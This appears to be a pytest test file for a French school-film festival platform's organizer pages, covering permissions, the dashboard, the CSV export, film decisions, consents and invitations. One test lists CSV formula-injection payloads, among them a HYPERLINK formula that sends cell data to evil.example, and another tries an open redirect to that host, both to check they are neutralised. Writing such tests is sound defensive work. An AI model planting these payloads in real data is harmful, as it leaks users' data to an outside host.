import csv
import html
import io
import re
from datetime import UTC, datetime

import pytest
from django.contrib.auth.tokens import default_token_generator
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils.encoding import force_str
from django.utils.http import urlsafe_base64_decode

from festival.enums import ApprovalStatus, ConsentStatus, EditionPhase, FilmStatus, Role
from festival.models import FilmEvent, Invitation, User
from media_pipeline.models import VideoStatus
from tests import factories
from tests.media_pipeline.versions import make_version


def messages_of(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def film_ids(response) -> list[int]:
    return [film.pk for film in response.context["films"]]


def count_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries.captured_queries)


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text[0] == "\ufeff"
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.fixture
def submitted_film(teacher, category):
    return factories.make_film(
        teacher=teacher, category=category, status=FilmStatus.SUBMITTED, complete=True
    )


@pytest.fixture
def consent(submitted_film):
    return submitted_film.consents.get()


@pytest.fixture
def juror_client(client, juror):
    client.force_login(juror)
    return client


@pytest.fixture
def other_organizer_client(client, other_organizer):
    client.force_login(other_organizer)
    return client


# Who may open what


@pytest.fixture
def pages(submitted_film, consent, pending_teacher):
    """Every organizer URL, with the method it answers and harmless POST data."""
    return {
        "dashboard": ("get", reverse("festival:organizer_dashboard"), {}),
        "films": ("get", reverse("festival:organizer_films"), {}),
        "films_csv": ("get", reverse("festival:organizer_films_csv"), {}),
        "film": ("get", reverse("festival:organizer_film", args=[submitted_film.pk]), {}),
        "film_decision": (
            "get",
            reverse("festival:organizer_film_decision", args=[submitted_film.pk]),
            {},
        ),
        "film_status": (
            "post",
            reverse("festival:organizer_film_status", args=[submitted_film.pk]),
            {"to": FilmStatus.ACCEPTED},
        ),
        "consent_review": (
            "post",
            reverse("festival:organizer_consent_review", args=[consent.pk]),
            {"status": ConsentStatus.VALIDATED},
        ),
        "teachers": ("get", reverse("festival:organizer_teachers"), {}),
        "teacher_decide": (
            "post",
            reverse("festival:organizer_teacher_decide", args=[pending_teacher.pk]),
            {"decision": "approve"},
        ),
        "invite": ("get", reverse("festival:organizer_invite"), {}),
        "invite_post": (
            "post",
            reverse("festival:organizer_invite"),
            {"email": "jure@example.org", "first_name": "A", "last_name": "B", "role": "juror"},
        ),
    }


ALL_PAGES = [
    "dashboard",
    "films",
    "films_csv",
    "film",
    "film_decision",
    "film_status",
    "consent_review",
    "teachers",
    "teacher_decide",
    "invite",
    "invite_post",
]


def request_page(client, pages, name):
    method, url, data = pages[name]
    return getattr(client, method)(url, data)


@pytest.mark.parametrize("name", ALL_PAGES)
def test_anonymous_is_sent_to_login(client, pages, name):
    response = request_page(client, pages, name)
    url = pages[name][1]
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('festival:login')}?next={url}"


@pytest.mark.parametrize("name", ALL_PAGES)
def test_teacher_gets_404(teacher_client, pages, name):
    assert request_page(teacher_client, pages, name).status_code == 404


@pytest.mark.parametrize("name", ALL_PAGES)
def test_juror_gets_404(juror_client, pages, name):
    assert request_page(juror_client, pages, name).status_code == 404


@pytest.mark.parametrize("name", ["film", "film_decision", "film_status", "consent_review"])
def test_other_festivals_organizer_gets_404(other_organizer_client, pages, name, submitted_film):
    assert request_page(other_organizer_client, pages, name).status_code == 404
    submitted_film.refresh_from_db()
    assert submitted_film.status == FilmStatus.SUBMITTED
    assert submitted_film.consents.get().status == ConsentStatus.PENDING


def test_other_festivals_organizer_sees_no_film(other_organizer_client, submitted_film):
    response = other_organizer_client.get(reverse("festival:organizer_films"), {"edition": ""})
    assert film_ids(response) == []


def test_other_festivals_organizer_exports_no_film(other_organizer_client, submitted_film):
    response = other_organizer_client.get(reverse("festival:organizer_films_csv"), {"edition": ""})
    assert len(csv_rows(response)) == 1


def test_other_festivals_organizer_dashboard_is_empty(other_organizer_client, submitted_film):
    response = other_organizer_client.get(reverse("festival:organizer_dashboard"))
    assert response.status_code == 200
    assert response.context["edition"] is None


def test_other_festivals_organizer_cannot_switch_to_our_edition(other_organizer_client, edition):
    response = other_organizer_client.get(
        reverse("festival:organizer_dashboard"), {"edition": edition.pk}
    )
    assert response.status_code == 404


def test_other_festivals_organizer_sees_none_of_our_invitations(other_organizer_client, organizer):
    juror = factories.make_juror(organizer.festival)
    Invitation.objects.create(user=juror, invited_by=organizer)
    response = other_organizer_client.get(reverse("festival:organizer_invite"))
    assert list(response.context["invitations"]) == []


@pytest.mark.parametrize("name", ["film_status", "consent_review", "teacher_decide"])
def test_actions_refuse_get(organizer_client, pages, name):
    url = pages[name][1]
    assert organizer_client.get(url).status_code == 405


# Dashboard


def test_dashboard_shows_the_current_edition(organizer_client, edition):
    factories.make_edition(edition.festival, is_current=False, year=2001)
    response = organizer_client.get(reverse("festival:organizer_dashboard"))
    assert response.status_code == 200
    assert response.context["edition"] == edition
    assert response.context["phase"] == EditionPhase.SUBMISSIONS
    assert [step["current"] for step in response.context["timeline"]] == [
        True,
        False,
        False,
        False,
        False,
        False,
        False,
    ]


def test_dashboard_edition_switcher(organizer_client, edition):
    older = factories.make_edition(
        edition.festival, is_current=False, open_now=False, year=2001, title="FILM'IT 2001"
    )
    response = organizer_client.get(reverse("festival:organizer_dashboard"), {"edition": older.pk})
    assert response.context["edition"] == older
    assert response.context["phase"] == EditionPhase.SCREENING
    links = response.context["edition_links"]
    assert [(link.edition, link.current) for link in links] == [(edition, False), (older, True)]
    url = reverse("festival:organizer_dashboard")
    expected = [f"{url}?edition={edition.pk}", f"{url}?edition={older.pk}"]
    assert [link.url for link in links] == expected
    # Each link opens its edition in one click.
    assert organizer_client.get(links[0].url).context["edition"] == edition


def test_dashboard_counts_per_category_and_status(organizer_client, edition, category, teacher):
    college = factories.make_category(edition, name="Collège", slug="college", position=0)
    for status in (FilmStatus.SUBMITTED, FilmStatus.SUBMITTED, FilmStatus.ACCEPTED):
        factories.make_film(teacher=teacher, category=category, status=status)
    factories.make_film(teacher=teacher, category=college, status=FilmStatus.DRAFT)
    factories.make_film(status=FilmStatus.SUBMITTED)  # Another festival's.
    matrix = organizer_client.get(reverse("festival:organizer_dashboard")).context["matrix"]
    assert [status.value for status in matrix["statuses"]] == [
        "draft",
        "submitted",
        "needs_changes",
        "accepted",
        "rejected",
        "withdrawn",
    ]
    rows = {
        row["category"].name: [cell["count"] for cell in row["cells"]] for row in matrix["rows"]
    }
    assert rows == {"Collège": [1, 0, 0, 0, 0, 0], "Lycée": [0, 2, 0, 1, 0, 0]}
    assert [cell["count"] for cell in matrix["totals"]] == [1, 2, 0, 1, 0, 0]
    assert matrix["total"] == 4
    lycee = next(row for row in matrix["rows"] if row["category"] == category)
    assert lycee["cells"][1]["url"] == (
        f"{reverse('festival:organizer_films')}"
        f"?edition={edition.pk}&category={category.pk}&status=submitted"
    )


def test_dashboard_films_missing_consents(organizer_client, teacher, category):
    def film(status, *consents):
        made = factories.make_film(teacher=teacher, category=category, status=status)
        for consent_status in consents:
            factories.make_consent(made, status=consent_status)
        return made

    without = film(FilmStatus.SUBMITTED)
    pending = film(FilmStatus.ACCEPTED, ConsentStatus.VALIDATED, ConsentStatus.PENDING)
    refused = film(FilmStatus.NEEDS_CHANGES, ConsentStatus.REFUSED)
    film(FilmStatus.ACCEPTED, ConsentStatus.VALIDATED, ConsentStatus.VALIDATED)
    film(FilmStatus.DRAFT)
    film(FilmStatus.WITHDRAWN, ConsentStatus.PENDING)
    response = organizer_client.get(reverse("festival:organizer_dashboard"))
    listed = sorted(f.pk for f in response.context["films_missing_consents"])
    assert listed == sorted([without.pk, pending.pk, refused.pk])


def test_dashboard_films_waiting_for_a_decision(organizer_client, teacher, category):
    first = factories.make_film(
        teacher=teacher,
        category=category,
        status=FilmStatus.SUBMITTED,
        submitted_at=datetime(2027, 1, 5, tzinfo=UTC),
    )
    second = factories.make_film(
        teacher=teacher,
        category=category,
        status=FilmStatus.SUBMITTED,
        submitted_at=datetime(2027, 1, 2, tzinfo=UTC),
    )
    factories.make_film(teacher=teacher, category=category, status=FilmStatus.ACCEPTED)
    response = organizer_client.get(reverse("festival:organizer_dashboard"))
    assert [f.pk for f in response.context["films_waiting"]] == [second.pk, first.pk]


def test_dashboard_lists_pending_teachers_with_decision_buttons(
    organizer_client, pending_teacher, teacher
):
    response = organizer_client.get(reverse("festival:organizer_dashboard"))
    assert [m.user for m in response.context["pending_teachers"]] == [pending_teacher]
    decide_url = reverse("festival:organizer_teacher_decide", args=[pending_teacher.pk])
    assert response.content.decode().count(f'action="{decide_url}"') == 2


def test_dashboard_without_edition(organizer_client, festival):
    response = organizer_client.get(reverse("festival:organizer_dashboard"))
    assert response.status_code == 200
    assert response.context["edition"] is None


def make_many_films(count, *, edition, teacher):
    categories = [factories.make_category(edition) for _ in range(2)]
    # Accepted first: a single film already shows on every part of the dashboard.
    statuses = sorted(FilmStatus, key=lambda status: status != FilmStatus.ACCEPTED)
    for index in range(count):
        film = factories.make_film(
            teacher=factories.make_teacher() if index % 2 else teacher,
            category=categories[index % 2],
            status=statuses[index % len(statuses)],
            company=factories.make_company(),
            pupil_count=10,
        )
        film.trades.add(factories.make_trade(), factories.make_trade())
        factories.make_consent(film)
        factories.make_consent(film, status=ConsentStatus.VALIDATED)
        factories.make_teacher(approval=ApprovalStatus.PENDING)


def test_dashboard_query_count_does_not_grow_with_films(
    organizer_client, edition, teacher, django_assert_num_queries
):
    url = reverse("festival:organizer_dashboard")
    make_many_films(1, edition=edition, teacher=teacher)
    expected = count_queries(organizer_client, url)
    make_many_films(19, edition=edition, teacher=teacher)
    with django_assert_num_queries(expected):
        organizer_client.get(url)


# Film list and export


def test_film_list_defaults_to_the_current_edition(organizer_client, edition, teacher, category):
    current = factories.make_film(teacher=teacher, category=category)
    older = factories.make_edition(edition.festival, is_current=False, year=2001)
    old = factories.make_film(teacher=teacher, category=factories.make_category(older))
    url = reverse("festival:organizer_films")
    assert film_ids(organizer_client.get(url)) == [current.pk]
    assert film_ids(organizer_client.get(url, {"edition": older.pk})) == [old.pk]
    assert sorted(film_ids(organizer_client.get(url, {"edition": ""}))) == sorted(
        [current.pk, old.pk]
    )


def test_film_list_filters_and_sorts(organizer_client, teacher, category):
    zebra = factories.make_film(
        teacher=teacher, category=category, status=FilmStatus.SUBMITTED, title="Zèbre"
    )
    alpha = factories.make_film(
        teacher=teacher, category=category, status=FilmStatus.SUBMITTED, title="Alpha"
    )
    factories.make_film(teacher=teacher, category=category, status=FilmStatus.DRAFT)
    response = organizer_client.get(
        reverse("festival:organizer_films"), {"status": "submitted", "o": "title"}
    )
    assert film_ids(response) == [alpha.pk, zebra.pk]
    assert response.context["export_url"] == (
        f"{reverse('festival:organizer_films_csv')}?status=submitted&o=title"
    )


def test_film_list_with_an_invalid_filter_lists_nothing(organizer_client, film):
    stranger = factories.make_edition()
    response = organizer_client.get(reverse("festival:organizer_films"), {"edition": stranger.pk})
    assert response.status_code == 200
    assert film_ids(response) == []
    assert list(response.context["filter"].errors) == ["edition"]


def test_film_list_is_paginated(organizer_client, teacher, category):
    for index in range(27):
        factories.make_film(teacher=teacher, category=category, title=f"Film {index:02d}")
    url = reverse("festival:organizer_films")
    first = organizer_client.get(url, {"o": "title"})
    second = organizer_client.get(url, {"o": "title", "page": 2})
    assert len(film_ids(first)) == 25
    assert [f.title for f in second.context["films"]] == ["Film 25", "Film 26"]


def test_film_list_query_count_does_not_grow_with_films(
    organizer_client, edition, teacher, django_assert_num_queries
):
    url = reverse("festival:organizer_films")
    make_many_films(1, edition=edition, teacher=teacher)
    expected = count_queries(organizer_client, url)
    make_many_films(19, edition=edition, teacher=teacher)
    with django_assert_num_queries(expected):
        response = organizer_client.get(url)
    assert len(film_ids(response)) == 20


CSV_HEADER = [
    "id",
    "titre",
    "édition",
    "catégorie",
    "statut",
    "établissement",
    "type de structure",
    "UAI",
    "SIRET de l'établissement",
    "académie",
    "commune",
    "entreprise",
    "SIRET",
    "enseignant",
    "e-mail enseignant",
    "métiers",
    "nombre d'élèves",
    "autorisations (validées / total)",
    "vidéo envoyée",
    "déposé le",
]


def test_csv_export(organizer_client, submitted_film, teacher, category, edition):
    film = submitted_film
    film.submitted_at = datetime(2027, 3, 1, 9, 30, tzinfo=UTC)
    film.save()
    film.trades.add(factories.make_trade(name="Ajusteur"))
    factories.make_consent(film, status=ConsentStatus.VALIDATED)
    draft = factories.make_film(teacher=teacher, category=category, title="Brouillon")
    response = organizer_client.get(reverse("festival:organizer_films_csv"), {"o": "title"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="films-')
    rows = csv_rows(response)
    assert rows[0] == CSV_HEADER
    school, company = film.school, film.company
    trades = ", ".join(sorted(t.name for t in film.trades.all()))
    assert rows[1:] == [
        [
            str(draft.pk),
            "Brouillon",
            edition.title,
            "Lycée",
            "Brouillon",
            school.name,
            "",
            school.uai,
            "",
            "Besançon",
            school.town,
            "",
            "",
            "Claire Girard",
            teacher.email,
            "",
            "",
            "0 / 0",
            "non",
            "",
        ],
        [
            str(film.pk),
            film.title,
            edition.title,
            "Lycée",
            "Déposé",
            school.name,
            "",
            school.uai,
            "",
            "Besançon",
            school.town,
            company.name,
            company.siret,
            "Claire Girard",
            teacher.email,
            trades,
            "12",
            "1 / 2",
            "oui",
            "01/03/2027 10:30",
        ],
    ]


def test_csv_export_follows_the_filters(organizer_client, teacher, category):
    accepted = factories.make_film(teacher=teacher, category=category, status=FilmStatus.ACCEPTED)
    factories.make_film(teacher=teacher, category=category, status=FilmStatus.DRAFT)
    response = organizer_client.get(reverse("festival:organizer_films_csv"), {"status": "accepted"})
    assert [row[0] for row in csv_rows(response)[1:]] == [str(accepted.pk)]


HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Voir")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


@pytest.mark.parametrize("hostile", HOSTILE_VALUES)
def test_csv_export_guards_every_typed_value_against_formulas(
    organizer_client, edition, category, hostile
):
    """Title, category, school, town, company, teacher and trade: typed by people, never run."""
    category.name = hostile
    category.save()
    school = factories.make_school(name=hostile, town=hostile)
    teacher = factories.make_teacher(school, first_name=hostile, last_name="Girard")
    film = factories.make_film(
        teacher=teacher,
        category=category,
        title=hostile,
        company=factories.make_company(name=hostile),
    )
    film.trades.add(factories.make_trade(name=hostile))
    response = organizer_client.get(reverse("festival:organizer_films_csv"))
    header, line = csv_rows(response)
    row = dict(zip(header, line, strict=True))
    typed = {
        "titre": hostile,
        "catégorie": hostile,
        "établissement": hostile,
        "commune": hostile,
        "entreprise": hostile,
        "enseignant": teacher.get_full_name(),
        "métiers": hostile,
    }
    assert {column: row[column] for column in typed} == {
        column: "'" + value for column, value in typed.items()
    }
    assert row["id"] == str(film.pk)


def test_csv_export_leaves_harmless_text_alone(organizer_client, teacher, category):
    factories.make_film(teacher=teacher, category=category, title="Les mains = l'usine")
    response = organizer_client.get(reverse("festival:organizer_films_csv"))
    assert csv_rows(response)[1][1] == "Les mains = l'usine"


def test_csv_export_query_count_does_not_grow_with_films(
    organizer_client, edition, teacher, django_assert_num_queries
):
    url = reverse("festival:organizer_films_csv")

    def export():
        with CaptureQueriesContext(connection) as queries:
            rows = csv_rows(organizer_client.get(url))
        return rows, len(queries.captured_queries)

    make_many_films(1, edition=edition, teacher=teacher)
    _rows, expected = export()
    make_many_films(19, edition=edition, teacher=teacher)
    rows, queries = export()
    assert (len(rows), queries) == (21, expected)


# Film detail and workflow


def test_film_detail(organizer_client, submitted_film, consent):
    FilmEvent.objects.create(
        film=submitted_film, to_status=FilmStatus.SUBMITTED, from_status=FilmStatus.DRAFT
    )
    response = organizer_client.get(reverse("festival:organizer_film", args=[submitted_film.pk]))
    assert response.status_code == 200
    assert response.context["film"] == submitted_film
    assert [a["to"] for a in response.context["actions"]] == [
        FilmStatus.ACCEPTED,
        FilmStatus.NEEDS_CHANGES,
        FilmStatus.REJECTED,
        FilmStatus.WITHDRAWN,
    ]
    assert list(response.context["consents"]) == [consent]
    assert len(response.context["events"]) == 1
    page = response.content.decode()
    assert page.count(reverse("festival:file_consent", args=[consent.pk])) == 1
    assert page.count(reverse("festival:file_original_video", args=[submitted_film.pk])) == 1
    assert page.count(f"mailto:{submitted_film.teacher.email}") == 1


def post_status(client, film, **data):
    return client.post(reverse("festival:organizer_film_status", args=[film.pk]), data)


def test_accept_film(
    organizer_client, organizer, submitted_film, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = post_status(organizer_client, submitted_film, to="accepted", reason="")
    assert response.status_code == 302
    assert response["Location"] == reverse("festival:organizer_film", args=[submitted_film.pk])
    submitted_film.refresh_from_db()
    assert submitted_film.status == FilmStatus.ACCEPTED
    event = submitted_film.events.get()
    assert (event.actor, event.from_status, event.to_status) == (
        organizer,
        FilmStatus.SUBMITTED,
        FilmStatus.ACCEPTED,
    )
    assert [message.to for message in mailoutbox] == [[submitted_film.teacher.email]]
    assert messages_of(response) == [
        f"Le film « {submitted_film.title} » est maintenant « Accepté »."
    ]


def test_ask_for_changes_with_a_reason(
    organizer_client, submitted_film, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        post_status(
            organizer_client, submitted_film, to="needs_changes", reason="Le son est saturé."
        )
    submitted_film.refresh_from_db()
    assert (submitted_film.status, submitted_film.status_reason) == (
        FilmStatus.NEEDS_CHANGES,
        "Le son est saturé.",
    )
    assert len(mailoutbox) == 1


def decision_page(client, film, to):
    return client.get(reverse("festival:organizer_film_decision", args=[film.pk]), {"to": to})


def test_film_page_asks_for_a_decision_through_the_confirmation(organizer_client, submitted_film):
    response = organizer_client.get(reverse("festival:organizer_film", args=[submitted_film.pk]))
    page = response.content.decode()
    assert [action["to"] for action in response.context["actions"]] == [
        FilmStatus.ACCEPTED,
        FilmStatus.NEEDS_CHANGES,
        FilmStatus.REJECTED,
        FilmStatus.WITHDRAWN,
    ]
    decision_url = reverse("festival:organizer_film_decision", args=[submitted_film.pk])
    assert f'<form method="get" action="{decision_url}">' in page
    assert reverse("festival:organizer_film_status", args=[submitted_film.pk]) not in page


def test_accept_confirmation_says_what_happens_and_writes_nothing(
    organizer_client, submitted_film, mailoutbox
):
    response = decision_page(organizer_client, submitted_film, "accepted")
    assert response.status_code == 200
    page = html.unescape(response.content.decode())
    assert f"Accepter le film « {submitted_film.title} » ?" in page
    assert "Le film est aussitôt attribué aux jurés du jury de la catégorie" in page
    assert "1 autorisation de droit à l'image n'est pas encore validée" in page
    assert "Confirmer : Accepter le film" in page
    assert 'name="reason"' not in page
    submitted_film.refresh_from_db()
    assert (submitted_film.status, submitted_film.events.count(), mailoutbox) == (
        FilmStatus.SUBMITTED,
        0,
        [],
    )


def test_reject_confirmation_requires_the_reason(organizer_client, submitted_film):
    page = decision_page(organizer_client, submitted_film, "rejected").content.decode()
    assert re.search(r'<textarea name="reason"[^>]*required', page)


@pytest.mark.parametrize("to", ["published", "draft", ""])
def test_confirmation_of_an_impossible_decision(organizer_client, submitted_film, to):
    response = decision_page(organizer_client, submitted_film, to)
    assert response["Location"] == reverse("festival:organizer_film", args=[submitted_film.pk])
    assert messages_of(response) == ["Cette action n'existe pas. Rechargez la page et réessayez."]


def test_reject_emails_the_reason(
    organizer_client, submitted_film, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        post_status(organizer_client, submitted_film, to="rejected", reason="Hors sujet.")
    assert [message.to for message in mailoutbox] == [[submitted_film.teacher.email]]
    assert "Hors sujet." in mailoutbox[0].body


def test_reject_without_reason_is_refused(organizer_client, submitted_film, mailoutbox):
    response = post_status(organizer_client, submitted_film, to="rejected", reason="  ")
    # The confirmation page again, the error at its top and beside the reason.
    assert response.status_code == 400
    assert response.templates[0].name == "festival/organizer/film_decision.html"
    assert response.context["form"].errors == {
        "reason": ["Indiquez un motif : l'enseignant le recevra par e-mail."]
    }
    submitted_film.refresh_from_db()
    assert submitted_film.status == FilmStatus.SUBMITTED
    assert submitted_film.events.count() == 0
    assert mailoutbox == []


def test_transition_not_allowed(organizer_client, film):
    response = post_status(organizer_client, film, to="accepted")
    assert messages_of(response) == ["Impossible de passer ce film de « Brouillon » à « Accepté »."]
    film.refresh_from_db()
    assert film.status == FilmStatus.DRAFT


def test_unknown_status(organizer_client, submitted_film):
    response = post_status(organizer_client, submitted_film, to="published")
    assert messages_of(response) == ["Cette action n'existe pas. Rechargez la page et réessayez."]
    submitted_film.refresh_from_db()
    assert submitted_film.status == FilmStatus.SUBMITTED


# Consents


def review(client, consent, **data):
    return client.post(reverse("festival:organizer_consent_review", args=[consent.pk]), data)


def test_validate_consent(organizer_client, organizer, consent, mailoutbox):
    response = review(organizer_client, consent, status="validated")
    assert response["Location"] == reverse("festival:organizer_film", args=[consent.film_id])
    consent.refresh_from_db()
    assert (consent.status, consent.reviewed_by) == (ConsentStatus.VALIDATED, organizer)
    assert mailoutbox == []


def test_refuse_consent_needs_a_note(organizer_client, consent):
    response = review(organizer_client, consent, status="refused", note="")
    assert messages_of(response) == [
        "Indiquez pourquoi l'autorisation est refusée : l'enseignant le recevra."
    ]
    consent.refresh_from_db()
    assert (consent.status, consent.reviewed_by) == (ConsentStatus.PENDING, None)


def test_refuse_consent(organizer_client, consent, mailoutbox, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        review(organizer_client, consent, status="refused", note="Signature manquante.")
    consent.refresh_from_db()
    assert (consent.status, consent.review_note) == (
        ConsentStatus.REFUSED,
        "Signature manquante.",
    )
    assert [message.to for message in mailoutbox] == [[consent.film.teacher.email]]


def test_consent_review_with_unknown_decision(organizer_client, consent):
    response = review(organizer_client, consent, status="pending")
    assert messages_of(response) == ["Choisissez de valider ou de refuser l'autorisation."]
    consent.refresh_from_db()
    assert consent.status == ConsentStatus.PENDING


# Teachers


def listed_teachers(response):
    return [membership.user for membership in response.context["memberships"]]


def test_teacher_list_puts_pending_accounts_first(organizer_client, teacher, pending_teacher):
    refused = factories.make_teacher(approval=ApprovalStatus.REFUSED)
    factories.make_organizer(factories.make_festival())  # Not a teacher: never listed.
    response = organizer_client.get(reverse("festival:organizer_teachers"))
    teachers = listed_teachers(response)
    assert teachers[0] == pending_teacher
    assert sorted(t.pk for t in teachers) == sorted([teacher.pk, pending_teacher.pk, refused.pk])


def test_teacher_list_shows_only_the_festival_s_own_teachers(organizer_client, festival, teacher):
    """Another festival's teachers (their address, phone, school) are never shown."""
    elsewhere = factories.make_teacher(
        festivals=[factories.make_festival()], phone="06 12 34 56 78"
    )
    response = organizer_client.get(reverse("festival:organizer_teachers"))
    assert listed_teachers(response) == [teacher]
    page = response.content.decode()
    assert elsewhere.email not in page and "06 12 34 56 78" not in page
    dashboard = organizer_client.get(reverse("festival:organizer_dashboard"))
    assert elsewhere.email not in dashboard.content.decode()


def test_teacher_list_search(organizer_client, teacher, pending_teacher):
    url = reverse("festival:organizer_teachers")
    response = organizer_client.get(url, {"q": "girard"})
    assert listed_teachers(response) == [teacher]
    response = organizer_client.get(url, {"approval": "pending"})
    assert listed_teachers(response) == [pending_teacher]


def test_teacher_list_query_count_does_not_grow(
    organizer_client, school, django_assert_num_queries
):
    url = reverse("festival:organizer_teachers")
    factories.make_teacher(approval=ApprovalStatus.PENDING)
    expected = count_queries(organizer_client, url)
    for _ in range(19):
        factories.make_teacher(approval=ApprovalStatus.PENDING)
    with django_assert_num_queries(expected):
        organizer_client.get(url)


def approval_of(teacher):
    return teacher.memberships.get().approval


def test_an_organizer_cannot_decide_on_another_festival_s_teacher(
    organizer_client, festival, mailoutbox
):
    other = factories.make_festival()
    elsewhere = factories.make_teacher(festivals=[other], approval=ApprovalStatus.APPROVED)
    response = decide(organizer_client, elsewhere, decision="refuse", reason="Inconnu")
    assert response.status_code == 404
    assert approval_of(elsewhere) == ApprovalStatus.APPROVED
    assert mailoutbox == []


def decide(client, teacher, **data):
    return client.post(reverse("festival:organizer_teacher_decide", args=[teacher.pk]), data)


def test_approve_teacher(
    organizer_client, pending_teacher, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = decide(
            organizer_client,
            pending_teacher,
            decision="approve",
            next=reverse("festival:organizer_dashboard"),
        )
    assert response["Location"] == reverse("festival:organizer_dashboard")
    assert approval_of(pending_teacher) == ApprovalStatus.APPROVED
    assert [message.to for message in mailoutbox] == [[pending_teacher.email]]


def test_refuse_teacher_needs_a_reason(organizer_client, pending_teacher, mailoutbox):
    response = decide(organizer_client, pending_teacher, decision="refuse", reason="")
    assert response["Location"] == reverse("festival:organizer_teachers")
    assert messages_of(response) == ["Indiquez un motif de refus."]
    assert approval_of(pending_teacher) == ApprovalStatus.PENDING
    assert mailoutbox == []


def test_refuse_teacher(
    organizer_client, pending_teacher, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        decide(
            organizer_client,
            pending_teacher,
            decision="refuse",
            reason="Établissement hors de la région.",
        )
    assert approval_of(pending_teacher) == ApprovalStatus.REFUSED
    assert [message.to for message in mailoutbox] == [[pending_teacher.email]]


def test_teacher_decision_never_redirects_elsewhere(organizer_client, pending_teacher):
    response = decide(
        organizer_client, pending_teacher, decision="approve", next="https://evil.example/"
    )
    assert response["Location"] == reverse("festival:organizer_teachers")


def test_only_teachers_can_be_decided(organizer_client, juror):
    response = decide(organizer_client, juror, decision="approve")
    assert response.status_code == 404


# Invitations


def invite(client, **data):
    defaults = {
        "email": "Juliette.Faure@Example.org",
        "first_name": "Juliette",
        "last_name": "Faure",
        "role": Role.JUROR,
    }
    return client.post(reverse("festival:organizer_invite"), {**defaults, **data})


def test_invite_a_juror(
    organizer_client, organizer, festival, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        response = invite(organizer_client)
    assert response.status_code == 302
    assert response["Location"] == reverse("festival:organizer_invite")
    user = User.objects.get(email="juliette.faure@example.org")
    assert (user.role, user.festival, user.has_usable_password()) == (Role.JUROR, festival, False)
    invitation = Invitation.objects.get()
    assert (invitation.user, invitation.invited_by, invitation.accepted_at) == (
        user,
        organizer,
        None,
    )
    assert [message.to for message in mailoutbox] == [["juliette.faure@example.org"]]
    uidb64, token = re.search(r"/compte/mot-de-passe/([^/]+)/([^/]+)/", mailoutbox[0].body).groups()
    assert force_str(urlsafe_base64_decode(uidb64)) == str(user.pk)
    assert default_token_generator.check_token(user, token)


def test_invite_an_organizer(organizer_client, festival, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        invite(organizer_client, email="paul@example.org", role=Role.ORGANIZER)
    user = User.objects.get(email="paul@example.org")
    assert (user.role, user.festival, user.is_organizer) == (Role.ORGANIZER, festival, True)


def test_invite_someone_who_has_an_account(organizer_client, teacher, mailoutbox):
    response = invite(organizer_client, email=teacher.email)
    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == [
        f"{teacher.email} a déjà un compte sur la plateforme, avec un autre rôle."
    ]
    assert Invitation.objects.count() == 0
    assert mailoutbox == []


def test_teachers_cannot_be_invited(organizer_client):
    response = invite(organizer_client, role=Role.TEACHER)
    assert list(response.context["form"].errors) == ["role"]
    assert User.objects.filter(email="juliette.faure@example.org").count() == 0


def test_invitation_list(organizer_client, organizer, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        invite(organizer_client)
    other = factories.make_festival()
    elsewhere = factories.make_juror(other)
    Invitation.objects.create(user=elsewhere, invited_by=None, festival=other)
    response = organizer_client.get(reverse("festival:organizer_invite"))
    assert [i.user.email for i in response.context["invitations"]] == ["juliette.faure@example.org"]


def test_invitation_can_be_sent_again(
    organizer_client, mailoutbox, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        invite(organizer_client)
        invite(organizer_client)
    assert Invitation.objects.count() == 2
    assert User.objects.filter(email="juliette.faure@example.org").count() == 1
    assert len(mailoutbox) == 2


def test_film_page_shows_the_film_before_the_decision(organizer_client, submitted_film):
    make_version(
        submitted_film, status=VideoStatus.FAILED, message="Le fichier est coupé.", attempts=3
    )
    make_version(submitted_film, status=VideoStatus.READY, probe={"duration": 185.4})
    response = organizer_client.get(reverse("festival:organizer_film", args=[submitted_film.pk]))
    page = html.unescape(response.content.decode())
    assert page.count('<video class="film-player"') == 1
    assert "<dd>3:05</dd>" in page
    assert '<span class="badge ready">Prête</span>' in page
    assert 'alt="Affiche du film' in page
    assert "Autorisations de droit à l'image" in page


def test_film_page_shows_the_processing_notes(organizer_client, submitted_film):
    make_version(
        submitted_film, status=VideoStatus.REJECTED, message="Le film dure 12:01.", attempts=1
    )
    response = organizer_client.get(reverse("festival:organizer_film", args=[submitted_film.pk]))
    page = html.unescape(response.content.decode())
    assert '<video class="film-player"' not in page
    assert page.count("Le film dure 12:01.") == 2  # the media block, and the processing notes
